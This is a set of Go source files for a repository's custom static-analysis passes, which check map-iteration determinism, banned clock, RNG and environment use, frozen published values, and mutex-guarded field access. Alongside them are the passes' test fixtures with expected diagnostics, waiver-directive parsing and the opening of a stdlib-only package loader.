	case *ast.SelectorExpr:
		y, ok := b.(*ast.SelectorExpr)
		if !ok {
			return false
		}
		selObj := identObj(info, x.Sel)
		return selObj != nil && selObj == identObj(info, y.Sel) && sameRef(info, x.X, y.X)
	}
	return false
}

// compositeLitVars returns the set of local variables in fn's body that hold
// freshly constructed values no other goroutine can see yet: initialized
// from a composite literal (`x := &T{...}` / `var x = T{...}`) or from a
// New*-named constructor call (`e := NewEngine(cfg)`). The constructor
// exemptions of epochsafe and lockguard apply to them.
func compositeLitVars(info *types.Info, body *ast.BlockStmt) map[*types.Var]bool {
	fresh := make(map[*types.Var]bool)
	mark := func(lhs ast.Expr, rhs ast.Expr) {
		id, ok := lhs.(*ast.Ident)
		if !ok {
			return
		}
		switch r := ast.Unparen(rhs).(type) {
		case *ast.CompositeLit:
		case *ast.UnaryExpr:
			if _, ok := ast.Unparen(r.X).(*ast.CompositeLit); !ok {
				return
			}
		case *ast.CallExpr:
			callee := calleeIdent(r)
			if callee == nil || !strings.HasPrefix(callee.Name, "New") {
				return
			}
		default:
			return
		}
		if v, ok := identObj(info, id).(*types.Var); ok {
			fresh[v] = true
		}
	}
	ast.Inspect(body, func(n ast.Node) bool {
		switch s := n.(type) {
		case *ast.AssignStmt:
			if len(s.Lhs) == len(s.Rhs) {
				for i := range s.Lhs {
					mark(s.Lhs[i], s.Rhs[i])
				}
			}
		case *ast.ValueSpec:
			if len(s.Names) == len(s.Values) {
				for i := range s.Names {
					mark(s.Names[i], s.Values[i])
				}
			}
		}
		return true
	})
	return fresh
}
