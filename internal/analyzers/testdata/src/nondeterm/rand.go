package nondeterm

import "math/rand" // want `import of math/rand in the deterministic zone`

func badShuffle(xs []int) {
	rand.Shuffle(len(xs), func(i, j int) { xs[i], xs[j] = xs[j], xs[i] })
}
