// Package nondeterm exercises the nondeterm pass: each forbidden ambient
// source, its sanctioned alternative, and the waiver form.
package nondeterm

import (
	"encoding/json"
	"os"
	"time"
)

func badClock() time.Time {
	return time.Now() // want `use of time.Now in the deterministic zone`
}

func badElapsed(start time.Time) time.Duration {
	return time.Since(start) // want `use of time.Since in the deterministic zone`
}

func goodInjectedTime(now time.Time, start time.Time) time.Duration {
	return now.Sub(start) // arithmetic on injected values is fine
}

func badEnv() string {
	return os.Getenv("MALGRAPH_DEBUG") // want `use of os.Getenv in the deterministic zone`
}

func goodConfig(debug string) string {
	return debug
}

func badMapMarshal(counts map[string]int) ([]byte, error) {
	return json.Marshal(counts) // want `JSON-marshals a bare map in the deterministic zone`
}

type summary struct {
	Counts []int `json:"counts"`
}

func goodStructMarshal(s summary) ([]byte, error) {
	return json.Marshal(s)
}

func waivedClock() time.Time {
	//malgraph:nondeterm-ok diagnostics-only timestamp, never reaches analysis output
	return time.Now()
}
