package epochsafe

// This file neither declares the frozen types nor constructs them, so every
// write through a published value is a finding.

func badFieldWrite(ep *Epoch) {
	ep.ID = 2 // want `writes to a field of a published Epoch`
}

func badMapWrite(ep *Epoch) {
	ep.Tags["k"] = "v" // want `writes to a map/slice element of a published Epoch`
}

func badDelete(ep *Epoch) {
	delete(ep.Tags, "k") // want `deletes from a container reachable from a published Epoch`
}

func badAliasAppend(ep *Epoch) []int {
	items := ep.Items
	return append(items, 9) // want `appends to a slice reachable from a published Epoch`
}

func badRangeElementWrite(ep *Epoch) {
	for i := range ep.Items {
		ep.Items[i] = 0 // want `writes to a map/slice element of a published Epoch`
	}
}

func badResultsWrite(r *Results) {
	r.Total++ // want `increments a value reachable from a published Results`
}

func badViewWrite(e engine) {
	v := e.View()
	v.Members["pkg"] = nil // want `writes to a map/slice element of a View\(\) snapshot`
}

func badDirectViewWrite(e engine) {
	e.View().Members["pkg"] = nil // want `writes to a map/slice element of a View\(\) snapshot`
}

// goodFresh builds a value locally — it is not published until it escapes,
// so filling it in is fine even outside the constructor file.
func goodFresh() uint64 {
	ep := &Epoch{Tags: make(map[string]string)}
	ep.ID = 7
	ep.Tags["local"] = "y"
	return ep.ID
}

// goodRead only reads published state.
func goodRead(ep *Epoch) int {
	n := 0
	for _, v := range ep.Items {
		n += v
	}
	return n + len(ep.Tags)
}

// goodRebuild derives a new container instead of mutating the frozen one.
func goodRebuild(ep *Epoch) map[string]string {
	next := make(map[string]string, len(ep.Tags)+1)
	for k, v := range ep.Tags {
		next[k] = v
	}
	next["extra"] = "1"
	return next
}

func waivedWrite(ep *Epoch) {
	//malgraph:epoch-ok test fixture mutates a private copy that is never published
	ep.ID = 3
}
