// Package epochsafe exercises the epochsafe pass. This file declares the
// frozen types and their constructors, so its own writes are exempt — values
// under construction are not yet published.
package epochsafe

type Epoch struct {
	ID    uint64
	Tags  map[string]string
	Items []int
}

type Results struct {
	Total int
}

type view struct {
	Members map[string][]string
}

type engine struct{}

func (engine) View() *view { return &view{Members: map[string][]string{}} }

// NewEpoch builds and fills an epoch before publication — constructor-file
// writes are exempt.
func NewEpoch(id uint64) *Epoch {
	ep := &Epoch{ID: id, Tags: make(map[string]string)}
	ep.Tags["seq"] = "0"
	ep.Items = append(ep.Items, 1)
	return ep
}
