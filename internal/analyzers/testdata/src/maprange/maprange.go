// Package maprange exercises the maprange pass: one true positive and one
// sanctioned negative per rule, plus the waiver forms.
package maprange

import (
	"fmt"
	"sort"
)

// --- collect-then-sort ---

func badAppend(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k) // want `appends to keys in map order without sorting it afterwards`
	}
	return keys
}

func goodCollectThenSort(m map[string]int) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}

type bundle struct{ names []string }

func goodFieldCollectThenSort(m map[string]int) bundle {
	var b bundle
	for k := range m {
		b.names = append(b.names, k)
	}
	sort.Strings(b.names)
	return b
}

// --- keyed transfer ---

func goodKeyedTransfer(src, dst map[string]int) {
	for k, v := range src {
		dst[k] = v
	}
}

func badUnkeyedIndexWrite(m map[string]int, slot map[string]int) {
	for _, v := range m {
		slot["latest"] = v // want `writes through an index not derived from the range key`
	}
}

func goodKeyedDelete(m map[string]int, dst map[string]bool) {
	for k := range m {
		delete(dst, k)
	}
}

func badUnkeyedDelete(m map[string]int, dst map[string]bool) {
	for range m {
		delete(dst, "latest") // want `deletes a key not derived from the range key`
	}
}

// --- commutative accumulation ---

func goodAccumulate(m map[string]int) (int, bool, int) {
	total := 0
	count := 0
	found := false
	best := 0
	for _, v := range m {
		total += v
		count++
		found = found || v < 0
		best = max(best, v)
	}
	return total, found, best + count
}

func goodMinMaxFold(m map[string]int) int {
	best := -1 << 62
	for _, v := range m {
		if v > best {
			best = v
		}
	}
	return best
}

func badArgmax(m map[string]int) string {
	best := -1 << 62
	var bestKey string
	for k, v := range m {
		if v > best {
			best = v
			bestKey = k // want `assigns to bestKey, declared outside the loop, in iteration order`
		}
	}
	return bestKey
}

func badLastWriter(m map[string]string) string {
	var last string
	for _, v := range m {
		last = v // want `assigns to last, declared outside the loop, in iteration order`
	}
	return last
}

func goodConstSetStore(m map[string][]string, seen map[string]bool) {
	for _, vs := range m {
		for _, v := range vs {
			seen[v] = true
		}
	}
}

// --- escaping control flow ---

func badFirstKey(m map[string]int) string {
	for k := range m {
		return k // want `returns a value derived from map iteration`
	}
	return ""
}

func goodFailFastError(m map[string]func() error) error {
	for _, f := range m {
		if err := f(); err != nil {
			return err
		}
	}
	return nil
}

func badSend(m map[string]int, ch chan int) {
	for _, v := range m {
		ch <- v // want `sends on a channel from inside a map range`
	}
}

func badGoroutine(m map[string]int) {
	for k := range m {
		go fmt.Println(k) // want `spawns a goroutine per map element`
	}
}

func badDefer(m map[string]int) {
	for k := range m {
		defer fmt.Println(k) // want `defers a call per map element`
	}
}

// --- calls ---

func badPrint(m map[string]int) {
	for k := range m {
		fmt.Println(k) // want `calls Println once per map element`
	}
}

func goodInnerSort(m map[string][]string) int {
	n := 0
	for _, vs := range m {
		cp := append([]string(nil), vs...)
		sort.Strings(cp)
		n += len(cp)
	}
	return n
}

func goodClosureReturn(m map[string][]int) {
	for _, vs := range m {
		sort.Slice(vs, func(i, j int) bool { return vs[i] < vs[j] })
	}
}

func badOuterSortCall(m map[string]int, acc []int) {
	for range m {
		sort.Ints(acc) // want `calls Ints with acc, declared outside the loop, once per map element`
	}
}

type store struct{ n int }

func (s *store) Add(v int)      { s.n += v }
func (s *store) SetKey(k string, v int) {}

func badMutatorCall(m map[string]int, s *store) {
	for _, v := range m {
		s.Add(v) // want `calls Add for effect on state declared outside the loop`
	}
}

func goodKeyedMutatorCall(m map[string]int, s *store) {
	for k, v := range m {
		s.SetKey(k, v)
	}
}

func badLocalCall(m map[string]int) int {
	total := 0
	add := func(v int) { total += v }
	for _, v := range m {
		add(v) // want `calls add for effect once per map element`
	}
	return total
}

// --- waivers ---

func waivedStatement(m map[string]int, s *store) {
	for _, v := range m {
		//malgraph:nondeterm-ok addition is commutative, the accumulator ignores arrival order
		s.Add(v)
	}
}

func waivedLoop(m map[string]int) []string {
	var keys []string
	//malgraph:nondeterm-ok helper output is consumed as a set by the caller
	for k := range m {
		keys = append(keys, k)
	}
	return keys
}
