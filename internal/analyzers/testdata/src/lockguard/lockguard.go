// Package lockguard exercises the lockguard pass: `guarded by mu` field
// annotations, the *Locked naming convention, the one-level-deep
// known-locked-caller rule, constructor freshness and the waiver form.
package lockguard

import "sync"

type Store struct {
	mu    sync.Mutex
	items map[string]int // guarded by mu
	hits  int            // guarded by mu
}

// NewStore initializes a value no other goroutine can see yet.
func NewStore() *Store {
	s := &Store{items: make(map[string]int)}
	s.items["boot"] = 1
	return s
}

// Get locks the mutex itself.
func (s *Store) Get(k string) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.hits++
	return s.items[k]
}

// badGet touches guarded state with no lock, no suffix, no locked caller.
func (s *Store) badGet(k string) int {
	return s.items[k] // want `Store.items \(guarded by mu\) accessed in Store.badGet without holding mu`
}

// sizeLocked carries the convention suffix: the caller must hold the lock.
func (s *Store) sizeLocked() int {
	return len(s.items)
}

// Size calls the *Locked helper under the lock.
func (s *Store) Size() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.sizeLocked()
}

// badSize calls a *Locked helper without holding the lock.
func (s *Store) badSize() int {
	return s.sizeLocked() // want `call to sizeLocked from Store.badSize, which neither holds Store.mu nor has the Locked suffix`
}

// bump touches guarded state but is only ever called by Touch, which locks —
// the one-level-deep rule covers it.
func (s *Store) bump() {
	s.hits++
}

// Touch is bump's only caller and acquires the mutex.
func (s *Store) Touch() {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.bump()
}

// Fresh values may call *Locked helpers: nothing else can see them yet.
func freshUse() int {
	s := &Store{items: make(map[string]int)}
	return s.sizeLocked()
}

// Peek documents its racy read instead of locking.
func (s *Store) Peek() int {
	//malgraph:lock-ok approximate metrics read, torn values are acceptable
	return s.hits
}
