// Package waiver exercises the directive syntax itself (run with the
// nondeterm analyzer): a waiver without a reason is a lint error, a waiver
// that suppresses nothing is a lint error, and a reasoned waiver that covers
// a finding is silent.
package waiver

import "time"

func missingReason() time.Time {
	//malgraph:nondeterm-ok // want `waiver //malgraph:nondeterm-ok is missing a reason`
	return time.Now() // want `use of time.Now in the deterministic zone`
}

func staleWaiver() int {
	//malgraph:nondeterm-ok nothing on the next line needs suppressing // want `waiver //malgraph:nondeterm-ok suppresses nothing`
	return 1
}

func properWaiver() time.Time {
	//malgraph:nondeterm-ok boot banner timestamp, not part of analysis output
	return time.Now()
}
