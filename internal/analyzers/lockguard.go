package analyzers

// lockguard — annotated mutex discipline.
//
// Struct fields whose doc or line comment says `guarded by <mu>` (e.g. the
// Engine ingest state, the Pipeline feed bookkeeping, the graph store's
// internals) may only be touched with that mutex held. Flow analysis being
// out of reach for a lint pass, the check enforces the repo's locking
// conventions structurally, per package (guarded fields are unexported, so
// every access site is local):
//
//   - a function that accesses a guarded field must acquire the owning
//     struct's mutex itself (a `x.mu.Lock()` / `x.mu.RLock()` call anywhere
//     in its body),
//   - or carry the *Locked name suffix — the repo's "caller holds the
//     lock" marker (graph.rebuildLocked, Pipeline.publishLocked, ...) —
//     in which case every call site is checked instead,
//   - or be called exclusively from functions that acquire the mutex (the
//     one-level-deep known-locked-caller rule),
//   - or be initializing a freshly constructed value (`e := &Engine{...}`)
//     that no other goroutine can see yet.
//
// Calls to *Locked methods of a guarded struct are themselves findings when
// the caller neither locks nor is *Locked. Reviewed exceptions carry
// `//malgraph:lock-ok <reason>` — e.g. reads that are racy by documented
// design, or publication via atomics.
//
// Limitations, by construction: the check is flow-insensitive (a Lock
// anywhere in the body counts, early unlocks are not modeled), closures are
// attributed to their enclosing declaration, and the known-locked-caller
// rule chases exactly one level — deeper call chains must use the *Locked
// suffix, which is the convention's point: the contract should be readable
// in the name.

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"regexp"
	"strings"
)

// Lockguard reports guarded-field accesses outside the lock discipline.
var Lockguard = &Analyzer{
	Name:   "lockguard",
	Doc:    "enforce `guarded by <mu>` field annotations: accessors must lock, be *Locked, or be called under the lock",
	Waiver: "lock",
	Run:    runLockguard,
}

var guardedByRe = regexp.MustCompile(`guarded by (\w+)`)

// lockKey identifies one mutex: the struct that owns it and the field name.
type lockKey struct {
	owner *types.Named
	mutex string
}

type guardInfo struct {
	key       lockKey
	fieldName string
}

type funcFacts struct {
	decl       *ast.FuncDecl
	obj        *types.Func
	lockedName bool
	locks      map[lockKey]bool
	fresh      map[*types.Var]bool
	accesses   []fieldAccess
	calls      []*types.Func
}

type fieldAccess struct {
	pos   token.Pos
	field *types.Var
	root  *types.Var // base of the access chain, when resolvable
}

func runLockguard(pass *Pass) {
	guards := collectGuards(pass)
	if len(guards) == 0 {
		return
	}
	guardedOwners := make(map[*types.Named]string) // owner → mutex name
	for _, g := range guards {
		guardedOwners[g.key.owner] = g.key.mutex
	}

	var funcs []*funcFacts
	callers := make(map[*types.Func][]*funcFacts)
	for _, f := range pass.Files {
		for _, decl := range f.Decls {
			fd, ok := decl.(*ast.FuncDecl)
			if !ok || fd.Body == nil {
				continue
			}
			fn := collectFuncFacts(pass, fd, guards)
			funcs = append(funcs, fn)
			for _, callee := range fn.calls {
				callers[callee] = append(callers[callee], fn)
			}
		}
	}

	for _, fn := range funcs {
		reported := make(map[*types.Var]bool) // one finding per field per function
		for _, acc := range fn.accesses {
			g := guards[acc.field]
			if fn.locks[g.key] || fn.lockedName {
				continue
			}
			if acc.root != nil && fn.fresh[acc.root] {
				continue // initializing a value not yet shared
			}
			if calledOnlyUnderLock(fn, g.key, callers) {
				continue
			}
			if reported[acc.field] {
				continue
			}
			reported[acc.field] = true
			pass.Reportf(acc.pos,
				"%s.%s (guarded by %s) accessed in %s without holding %s — lock it, rename the function with the Locked suffix, or waive with //malgraph:lock-ok <reason>",
				g.key.owner.Obj().Name(), g.fieldName, g.key.mutex, funcDisplayName(fn), g.key.mutex)
		}

		// A *Locked callee shifts the obligation to its callers: calling one
		// without the lock (or without being *Locked yourself) is a finding.
		checkLockedCalls(pass, fn, guardedOwners)
	}
}

// collectGuards parses `guarded by <mu>` field annotations.
func collectGuards(pass *Pass) map[*types.Var]guardInfo {
	guards := make(map[*types.Var]guardInfo)
	for _, f := range pass.Files {
		ast.Inspect(f, func(n ast.Node) bool {
			ts, ok := n.(*ast.TypeSpec)
			if !ok {
				return true
			}
			st, ok := ts.Type.(*ast.StructType)
			if !ok {
				return true
			}
			obj := identObj(pass.Info, ts.Name)
			if obj == nil {
				return true
			}
			named, ok := types.Unalias(obj.Type()).(*types.Named)
			if !ok {
				return true
			}
			for _, field := range st.Fields.List {
				mutex := guardAnnotation(field)
				if mutex == "" {
					continue
				}
				for _, name := range field.Names {
					if v, ok := identObj(pass.Info, name).(*types.Var); ok {
						guards[v] = guardInfo{
							key:       lockKey{owner: named, mutex: mutex},
							fieldName: name.Name,
						}
					}
				}
			}
			return true
		})
	}
	return guards
}

func guardAnnotation(field *ast.Field) string {
	for _, cg := range []*ast.CommentGroup{field.Doc, field.Comment} {
		if cg == nil {
			continue
		}
		if m := guardedByRe.FindStringSubmatch(cg.Text()); m != nil {
			return m[1]
		}
	}
	return ""
}

func collectFuncFacts(pass *Pass, fd *ast.FuncDecl, guards map[*types.Var]guardInfo) *funcFacts {
	obj, _ := identObj(pass.Info, fd.Name).(*types.Func)
	fn := &funcFacts{
		decl:       fd,
		obj:        obj,
		lockedName: strings.HasSuffix(fd.Name.Name, "Locked"),
		locks:      make(map[lockKey]bool),
		fresh:      compositeLitVars(pass.Info, fd.Body),
	}
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		switch x := n.(type) {
		case *ast.CallExpr:
			if callee, ok := identObj(pass.Info, calleeIdent(x)).(*types.Func); ok && callee != nil {
				fn.calls = append(fn.calls, callee)
			}
			recordLock(pass, fn, x)
		case *ast.SelectorExpr:
			if field, ok := identObj(pass.Info, x.Sel).(*types.Var); ok {
				if _, guarded := guards[field]; guarded {
					fn.accesses = append(fn.accesses, fieldAccess{
						pos:   x.Pos(),
						field: field,
						root:  rootObj(pass.Info, x),
					})
				}
			}
		}
		return true
	})
	return fn
}

func calleeIdent(call *ast.CallExpr) *ast.Ident {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		return fun
	case *ast.SelectorExpr:
		return fun.Sel
	}
	return nil
}

// recordLock marks `x.mu.Lock()` / `x.mu.RLock()` acquisitions.
func recordLock(pass *Pass, fn *funcFacts, call *ast.CallExpr) {
	sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
	if !ok || (sel.Sel.Name != "Lock" && sel.Sel.Name != "RLock") {
		return
	}
	mutexSel, ok := ast.Unparen(sel.X).(*ast.SelectorExpr)
	if !ok {
		return
	}
	ownerType := namedType(typeOf(pass.Info, mutexSel.X))
	if ownerType == nil {
		return
	}
	fn.locks[lockKey{owner: ownerType, mutex: mutexSel.Sel.Name}] = true
}

func typeOf(info *types.Info, e ast.Expr) types.Type {
	if tv, ok := info.Types[e]; ok {
		return tv.Type
	}
	return nil
}

// calledOnlyUnderLock implements the one-level-deep rule: every intra-package
// call site of fn sits in a function that holds the lock or is *Locked.
func calledOnlyUnderLock(fn *funcFacts, key lockKey, callers map[*types.Func][]*funcFacts) bool {
	if fn.obj == nil {
		return false
	}
	sites := callers[fn.obj]
	if len(sites) == 0 {
		return false
	}
	for _, caller := range sites {
		if caller == fn {
			continue // direct recursion adds nothing either way
		}
		if !caller.locks[key] && !caller.lockedName {
			return false
		}
	}
	return true
}

// checkLockedCalls flags calls to *Locked methods of guarded structs from
// functions that neither lock nor carry the suffix.
func checkLockedCalls(pass *Pass, fn *funcFacts, guardedOwners map[*types.Named]string) {
	if fn.lockedName {
		return
	}
	ast.Inspect(fn.decl.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		callee, ok := identObj(pass.Info, calleeIdent(call)).(*types.Func)
		if !ok || callee == nil || !strings.HasSuffix(callee.Name(), "Locked") {
			return true
		}
		sig, ok := callee.Type().(*types.Signature)
		if !ok || sig.Recv() == nil {
			return true
		}
		owner := namedType(sig.Recv().Type())
		if owner == nil {
			return true
		}
		mutex, guarded := guardedOwners[owner]
		if !guarded {
			return true
		}
		if fn.locks[lockKey{owner: owner, mutex: mutex}] {
			return true
		}
		// Receiver freshly constructed in this function → not shared yet.
		if sel, isSel := ast.Unparen(call.Fun).(*ast.SelectorExpr); isSel {
			if root := rootObj(pass.Info, sel.X); root != nil && fn.fresh[root] {
				return true
			}
		}
		pass.Reportf(call.Pos(),
			"call to %s from %s, which neither holds %s.%s nor has the Locked suffix — the callee's name says the caller must hold the lock",
			callee.Name(), funcDisplayName(fn), owner.Obj().Name(), mutex)
		return true
	})
}

func funcDisplayName(fn *funcFacts) string {
	if fn.obj == nil {
		return fn.decl.Name.Name
	}
	if sig, ok := fn.obj.Type().(*types.Signature); ok && sig.Recv() != nil {
		if n := namedType(sig.Recv().Type()); n != nil {
			return fmt.Sprintf("%s.%s", n.Obj().Name(), fn.obj.Name())
		}
	}
	return fn.obj.Name()
}
