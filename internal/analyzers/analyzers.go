// Package analyzers holds MALGRAPH's repo-specific static-analysis passes —
// the machine-checked form of the correctness contracts every equivalence
// guarantee in this tree rests on:
//
//   - maprange: in the deterministic zone, iteration over a Go map must not
//     have loop-order-dependent effects (byte-identical output under any
//     GOMAXPROCS / batch partition is the core contract);
//   - nondeterm: the deterministic zone must not consult wall clocks,
//     global RNGs, the process environment, or JSON-marshal bare maps —
//     randomness routes through internal/xrand derived streams, time
//     through injected values;
//   - epochsafe: values published for lock-free reading (Epoch, Results,
//     View()-derived graph snapshots) are frozen at publish; writes outside
//     their constructor files break the copy-on-write discipline of the
//     epoch read path;
//   - lockguard: struct fields annotated `guarded by <mu>` may only be
//     touched by functions that acquire that mutex, follow the *Locked
//     naming convention, or are reached one call level below an acquirer.
//
// The passes mirror the golang.org/x/tools/go/analysis API shape (Analyzer,
// Pass, Diagnostic, testdata fixtures with `// want` expectations) but run
// on a self-contained stdlib driver (see loader.go): x/tools is not
// vendored in this module and the build environment is offline, so the
// framework is deliberately dependency-free.
//
// Findings are suppressed by waiver directives in the source:
//
//	//malgraph:nondeterm-ok <reason>   (maprange, nondeterm)
//	//malgraph:epoch-ok <reason>       (epochsafe)
//	//malgraph:lock-ok <reason>        (lockguard)
//
// A directive applies to its own line and, when it stands alone on a line,
// to the next line. A directive without a reason is itself a lint error —
// waivers document *why* a contract does not apply, or they do not count.
package analyzers

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"regexp"
	"sort"
	"strings"
)

// Analyzer is one static-analysis pass. The fields mirror
// golang.org/x/tools/go/analysis.Analyzer so the passes port to the real
// multichecker verbatim if x/tools ever becomes available.
type Analyzer struct {
	Name string
	Doc  string
	// Waiver names the directive kind (`//malgraph:<Waiver>-ok reason`)
	// that suppresses this analyzer's findings.
	Waiver string
	Run    func(*Pass)
}

// Pass carries one package's parsed-and-typechecked state through an
// Analyzer.Run, and collects its diagnostics.
type Pass struct {
	Analyzer *Analyzer
	Fset     *token.FileSet
	Files    []*ast.File
	Pkg      *types.Package
	Info     *types.Info

	waivers map[string]map[int]*waiver // filename → line → directive
	diags   []Diagnostic
}

// Diagnostic is one reported finding.
type Diagnostic struct {
	Analyzer string
	Pos      token.Position
	Message  string
}

func (d Diagnostic) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", d.Pos.Filename, d.Pos.Line, d.Pos.Column, d.Analyzer, d.Message)
}

// Reportf records a finding at pos unless a matching waiver covers the line.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	position := p.Fset.Position(pos)
	if w := p.waiverFor(position, p.Analyzer.Waiver); w != nil {
		w.used = true
		return
	}
	p.diags = append(p.diags, Diagnostic{
		Analyzer: p.Analyzer.Name,
		Pos:      position,
		Message:  fmt.Sprintf(format, args...),
	})
}

// Waived reports whether a matching directive covers pos. Analyzers use it
// to skip a whole construct (e.g. an entire waived map-range loop) instead
// of reporting each effect inside it.
func (p *Pass) Waived(pos token.Pos) bool {
	position := p.Fset.Position(pos)
	if w := p.waiverFor(position, p.Analyzer.Waiver); w != nil {
		w.used = true
		return true
	}
	return false
}

func (p *Pass) waiverFor(pos token.Position, kind string) *waiver {
	lines := p.waivers[pos.Filename]
	for _, line := range []int{pos.Line, pos.Line - 1} {
		if w := lines[line]; w != nil && w.kind == kind && w.reason != "" {
			// A standalone directive covers the next line; a trailing one
			// covers only its own.
			if line == pos.Line || w.standalone {
				return w
			}
		}
	}
	return nil
}

// waiver is one parsed //malgraph:<kind>-ok directive.
type waiver struct {
	kind       string
	reason     string
	pos        token.Position
	standalone bool // directive is the only thing on its line
	used       bool
}

var waiverRe = regexp.MustCompile(`^//malgraph:([a-z]+)-ok(\s.*)?$`)

// parseWaivers scans a file's comments for waiver directives.
func parseWaivers(fset *token.FileSet, f *ast.File) []*waiver {
	var out []*waiver
	for _, cg := range f.Comments {
		for _, c := range cg.List {
			m := waiverRe.FindStringSubmatch(c.Text)
			if m == nil {
				continue
			}
			pos := fset.Position(c.Pos())
			reason := strings.TrimSpace(m[2])
			// A trailing `// want` expectation (analysistest fixtures annotate
			// the directive's own line) is not a reason.
			if i := strings.Index(reason, "// want"); i >= 0 {
				reason = strings.TrimSpace(reason[:i])
			}
			out = append(out, &waiver{
				kind:       m[1],
				reason:     reason,
				pos:        pos,
				standalone: pos.Column == 1 || onlyCommentOnLine(fset, f, c),
			})
		}
	}
	return out
}

// onlyCommentOnLine reports whether no declaration/statement token shares
// the comment's line (i.e. the directive stands alone and therefore covers
// the following line).
func onlyCommentOnLine(fset *token.FileSet, f *ast.File, c *ast.Comment) bool {
	line := fset.Position(c.Pos()).Line
	alone := true
	ast.Inspect(f, func(n ast.Node) bool {
		if n == nil || !alone {
			return false
		}
		if _, isComment := n.(*ast.Comment); isComment {
			return true
		}
		if _, isGroup := n.(*ast.CommentGroup); isGroup {
			return true
		}
		if n.Pos().IsValid() && fset.Position(n.Pos()).Line == line && n.Pos() != c.Pos() {
			// Another node starts on this line; composite nodes spanning the
			// line don't count, only ones that begin there.
			switch n.(type) {
			case *ast.File, *ast.GenDecl, *ast.FuncDecl, *ast.BlockStmt:
				return true
			default:
				alone = false
				return false
			}
		}
		return true
	})
	return alone
}

// CheckPackage runs each analyzer over the package and returns the combined,
// waiver-filtered findings, sorted by position. Directives with a missing
// reason — for any of the supplied analyzers' waiver kinds — are themselves
// findings, as are waivers that suppress nothing (a stale waiver hides a
// future regression).
func CheckPackage(pkg *Package, as []*Analyzer) []Diagnostic {
	waivers := make(map[string]map[int]*waiver)
	var all []*waiver
	for _, f := range pkg.Files {
		for _, w := range parseWaivers(pkg.Fset, f) {
			if waivers[w.pos.Filename] == nil {
				waivers[w.pos.Filename] = make(map[int]*waiver)
			}
			waivers[w.pos.Filename][w.pos.Line] = w
			all = append(all, w)
		}
	}

	kinds := make(map[string]string, len(as)) // waiver kind → analyzer name
	var diags []Diagnostic
	for _, a := range as {
		kinds[a.Waiver] = a.Name
		pass := &Pass{
			Analyzer: a,
			Fset:     pkg.Fset,
			Files:    pkg.Files,
			Pkg:      pkg.Types,
			Info:     pkg.Info,
			waivers:  waivers,
		}
		a.Run(pass)
		diags = append(diags, pass.diags...)
	}

	for _, w := range all {
		name, relevant := kinds[w.kind]
		if !relevant {
			continue
		}
		switch {
		case w.reason == "":
			diags = append(diags, Diagnostic{
				Analyzer: name,
				Pos:      w.pos,
				Message: fmt.Sprintf("waiver //malgraph:%s-ok is missing a reason — state why the contract does not apply",
					w.kind),
			})
		case !w.used:
			diags = append(diags, Diagnostic{
				Analyzer: name,
				Pos:      w.pos,
				Message: fmt.Sprintf("waiver //malgraph:%s-ok suppresses nothing — remove it (a stale waiver hides the next regression)",
					w.kind),
			})
		}
	}

	sort.Slice(diags, func(i, j int) bool {
		a, b := diags[i], diags[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Message < b.Message
	})
	return dedupe(diags)
}

func dedupe(diags []Diagnostic) []Diagnostic {
	out := diags[:0]
	var last Diagnostic
	for i, d := range diags {
		if i > 0 && d == last {
			continue
		}
		out = append(out, d)
		last = d
	}
	return out
}

// DeterministicZone lists the module-relative package paths whose output
// must be byte-identical under any GOMAXPROCS, batch partition or replay —
// the packages maprange and nondeterm police. Everything the graph, the
// clustering kernels, and the RQ analyses are computed from lives here.
var DeterministicZone = []string{
	"internal/core",
	"internal/graph",
	"internal/textsim",
	"internal/analysis",
	"internal/stats",
}

// InDeterministicZone reports whether importPath (under modulePath) is one
// of the deterministic-zone packages or a child of one.
func InDeterministicZone(modulePath, importPath string) bool {
	rel := strings.TrimPrefix(importPath, modulePath+"/")
	if rel == importPath && importPath != modulePath {
		return false
	}
	for _, z := range DeterministicZone {
		if rel == z || strings.HasPrefix(rel, z+"/") {
			return true
		}
	}
	return false
}

// All returns the four analyzers in reporting order.
func All() []*Analyzer {
	return []*Analyzer{Maprange, Nondeterm, Epochsafe, Lockguard}
}

// ZoneOnly reports whether the analyzer is restricted to the deterministic
// zone (maprange, nondeterm) rather than module-wide (epochsafe, lockguard).
func ZoneOnly(a *Analyzer) bool {
	return a == Maprange || a == Nondeterm
}
