package analyzers

// loader.go — the self-contained package loader behind the passes. The
// build environment has no golang.org/x/tools (and no network), so instead
// of go/packages the driver typechecks module packages from source with
// go/parser + go/types and satisfies standard-library imports from the
// toolchain's compiled export data, located once per run via
// `go list -export`. The module has no third-party dependencies, so those
// two sources cover every import.

import (
	"bytes"
	"fmt"
	"go/ast"
	"go/build"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strings"
	"sync"
)

// Package is one loaded, typechecked package.
type Package struct {
	Path  string
	Dir   string
	Fset  *token.FileSet
	Files []*ast.File // non-test files, sorted by filename
	Types *types.Package
	Info  *types.Info
}

// Loader loads packages for analysis. In-module import paths resolve to
// source directories under ModuleDir; everything else is imported from the
// toolchain's export data. Loaders are not safe for concurrent use.
type Loader struct {
	ModulePath string
	ModuleDir  string
	Fset       *token.FileSet

	pkgs    map[string]*Package // loaded in-module packages, by import path
	loading map[string]bool     // cycle guard
	std     types.Importer      // gc export-data importer for the stdlib

	exportsOnce sync.Once
	exports     map[string]string // import path → export-data file
	exportsErr  error
}

// NewLoader returns a loader rooted at the module containing dir (dir or an
// ancestor must hold go.mod).
func NewLoader(dir string) (*Loader, error) {
